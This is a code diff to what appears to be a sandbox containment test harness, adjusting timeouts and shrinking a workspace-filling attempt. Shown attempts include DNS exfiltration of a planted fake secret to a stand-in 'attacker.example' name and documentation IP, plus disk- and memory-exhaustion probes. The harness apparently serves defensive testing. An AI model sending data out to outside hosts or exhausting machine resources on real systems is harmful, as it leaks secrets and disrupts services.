@@ -25,7 +25,8 @@ HOME, WORK = FACTS["home"], os.getcwd()
 MARK = FACTS["mark"]  # every made-up secret has it in itself
 ATTEMPTS = {"main": [], "disk": [], "memory": [], "output": []}
 LIBC = ctypes.CDLL(None, use_errno=True)
-PATIENCE = 8
+PATIENCE = 20
+LEAST_WAIT = FACTS.get("least_wait", 0)  # where answers come, it is worth the time to wait for slow ones
 
 
 def attempt(name, part="main"):
@@ -171,7 +172,7 @@ def ask(host, port, path, method="GET", headers=None, body=None, secure=False, d
 def say_to(address, port, data, kind=socket.SOCK_STREAM, wait=2):
     family = socket.AF_INET6 if ":" in address else socket.AF_INET
     with socket.socket(family, kind) as sock:
-        sock.settimeout(wait)
+        sock.settimeout(max(wait, LEAST_WAIT))
         sock.connect((address, port))
         sock.send(data)
         try:
@@ -250,7 +251,7 @@ def _():
     labels = [MARK.encode(), b"send-dns-server", b"attacker", b"example"]
     name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
-        sock.settimeout(2)
+        sock.settimeout(max(2, LEAST_WAIT))
         sock.sendto(struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack("!2H", 16, 1), ("203.0.113.53", 53))
         try:
             heard = sock.recv(512)
@@ -697,13 +698,14 @@ def _():
 
 @attempt("eat-workspace", "disk")
 def _():
-    for number in range(6):
+    """Stops at 48 MiB and waits for whoever may want to end it: that takes a busy machine a while."""
+    for number in range(3):
         word, detail = filled(WORK, 16)
         os.rename("filler", "filler%d" % number)
         if word != "got":
             return word, detail
-        time.sleep(0.3)
-    return "got", "96 MiB"
+    time.sleep(PATIENCE - 1)
+    return "got", "48 MiB"
 
 
 @attempt("eat-memory", "memory")
